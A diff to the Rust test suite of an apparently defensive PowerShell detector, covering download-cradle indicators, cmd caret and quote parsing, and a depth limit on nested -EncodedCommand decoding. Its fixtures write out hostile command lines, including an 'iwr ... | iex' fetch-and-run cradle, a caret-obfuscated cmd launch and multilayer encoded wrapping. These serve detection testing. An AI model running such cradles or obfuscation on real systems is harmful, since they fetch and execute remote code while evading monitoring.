@@ -258,11 +258,17 @@ fn pipeline_details_link_to_their_process_by_host_application() {
     assert_eq!(findings.len(), 1, "{findings:?}");
     let f = &findings[0];
     assert_eq!((f.pid, f.ppid), (Some(4242), Some(1000)));
+    // This pipeline creates a WebClient but downloads nothing with it (the call
+    // that does is in another pipeline): no download_cradle from a type name.
+    assert!(
+        !f.indicators.iter().any(|i| i == "download_cradle"),
+        "{:?}",
+        f.indicators
+    );
     has(
         f,
         &[
             "error_preference_suppressed",
-            "download_cradle",
             "exec_cradle",
             "hidden_window",
             "encoded_command",
@@ -270,7 +276,7 @@ fn pipeline_details_link_to_their_process_by_host_application() {
             "network_activity",
         ],
     );
-    assert_eq!(f.severity, Severity::Critical);
+    assert_eq!(f.severity, Severity::High);
 }
 
 // --- the host's own command line ----------------------------------------------------
@@ -405,9 +411,15 @@ fn caret_obfuscated_cmd_launch_is_decoded() {
         f[0].command_line
             .starts_with(r"C:\Windows\system32\cmd.exe /c powershell.exe -nop")
     );
-    // Inside quotes carets are literal, and `-Er^rorAction` is not ErrorAction.
-    let quoted = r#"cmd.exe /c "powershell -c iwr http://x -Er^rorAction 0""#;
+    // Inside quotes carets are literal, and `-Er^rorAction` is not ErrorAction...
+    let quoted = r#"cmd.exe /c powershell -c "iwr http://x -Er^rorAction 0""#;
     assert!(one_process(r"C:\Windows\System32\cmd.exe", quoted).is_empty());
+    // ...but the quotes right after /c are removed first (cmd /?), so carets
+    // inside them escape.
+    let stripped = r#"cmd.exe /c "powershell -c iwr http://x -Er^rorAction 0""#;
+    let f = one_process(r"C:\Windows\System32\cmd.exe", stripped);
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["download_cradle", "error_action_suppressed"]);
     // An Office application starting PowerShell is the suspicious parent.
     let f = one_process(
         r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
@@ -601,4 +613,44 @@ fn rules_reject_patterns_for_unknown_indicators() {
         .insert("no_such".into(), toml::Value::Array(vec!["x".into()]));
     let rules = Rules::from_table(table).unwrap();
     assert!(PowerShellDetector::new(&rules).is_err());
+}
+
+// --- the decoder's depth limit ------------------------------------------------------
+
+/// `script` wrapped in `layers` nested `powershell -enc`, as the outer command line.
+fn nested_enc(script: &str, layers: usize) -> String {
+    let mut text = script.to_string();
+    for _ in 0..layers {
+        text = format!("powershell.exe -NoProfile -EncodedCommand {}", enc(&text));
+    }
+    text
+}
+
+#[test]
+fn encodings_deeper_than_the_limit_are_reported_not_dropped() {
+    let payload = "iwr http://x/a.ps1 -ea 0 | iex";
+    // Within the limit: judged on the innermost text.
+    let f = one_process(PS, &nested_enc(payload, 4));
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["download_cradle", "error_action_suppressed"]);
+    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
+    // One layer more: the suppression is out of sight, the evidence is still
+    // reported, saying why.
+    let f = one_process(PS, &nested_enc(payload, 6));
+    assert_eq!(f.len(), 1, "{f:?}");
+    has(&f[0], &["decode_depth_limit"]);
+    assert!(f[0].severity >= Severity::Medium);
+    // The limit is rule data.
+    let mut table = Rules::embedded().table().clone();
+    table["powershell"]["max_decode_depth"] = toml::Value::Integer(8);
+    let rules = Rules::from_table(table).unwrap();
+    let mut d = PowerShellDetector::new(&rules).unwrap();
+    let mut out = Findings::default();
+    d.observe(&Event::Process(proc(PS, &nested_enc(payload, 6))), &mut out);
+    let f = out.drain();
+    assert_eq!(f.len(), 1);
+    has(&f[0], &["download_cradle", "error_action_suppressed"]);
+    assert!(!f[0].indicators.iter().any(|i| i == "decode_depth_limit"));
+    // Depth alone is not evidence: a benign script two layers down is not a finding.
+    assert!(one_process(PS, &nested_enc("Get-Date", 2)).is_empty());
 }
